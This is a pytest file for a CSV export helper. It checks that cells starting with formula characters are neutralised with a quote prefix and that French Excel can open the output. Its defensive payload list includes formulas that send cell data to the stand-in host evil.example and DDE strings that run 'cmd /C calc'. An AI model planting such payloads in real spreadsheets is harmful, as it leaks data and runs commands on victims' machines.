"""Tables as CSV: what French spreadsheets open, and no cell of which starts anything."""

import csv
import io

import pytest

from flowia.lib.sheets import lines

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1;"Click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("https://evil.example/?";A1);"//a")',
    "+1+1",
    "+33612345678",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
HARMLESS = ["Léa", "a=b", "1-2", "c'est combien ?", "", "«=»", "49 €", "a;b", 'dit "oui"', "a\nb"]


def cells(*row: str) -> tuple[str, list[str]]:
    text = "".join(lines(["Nom", "Reste"], [row]))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert len(rows) == 2
    return text, rows[1]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_a_text(cell: str) -> None:
    for row in ([cell, "x"], ["x", cell]):
        assert f"'{cell}" in cells(*row)[1]


@pytest.mark.parametrize("cell", HARMLESS)
def test_everything_else_is_left_as_it_is(cell: str) -> None:
    assert cells(cell, "x")[1] == [cell, "x"]


@pytest.mark.parametrize("cell", ['";=1+1', 'x";"=1+1', 'x"\r\n=1+1', "x;=1+1", "x\r\n=1+1"])
def test_nobody_breaks_out_of_a_cell(cell: str) -> None:
    assert cells(cell, "x")[1] == [cell, "x"]


def test_a_french_excel_opens_it() -> None:
    text, _ = cells("Été", "a;b")

    assert text.startswith("\ufeffNom;Reste\r\n")
    assert text.endswith('Été;"a;b"\r\n')
    assert text.count("\ufeff") == 1
    assert text.encode().startswith(b"\xef\xbb\xbf")
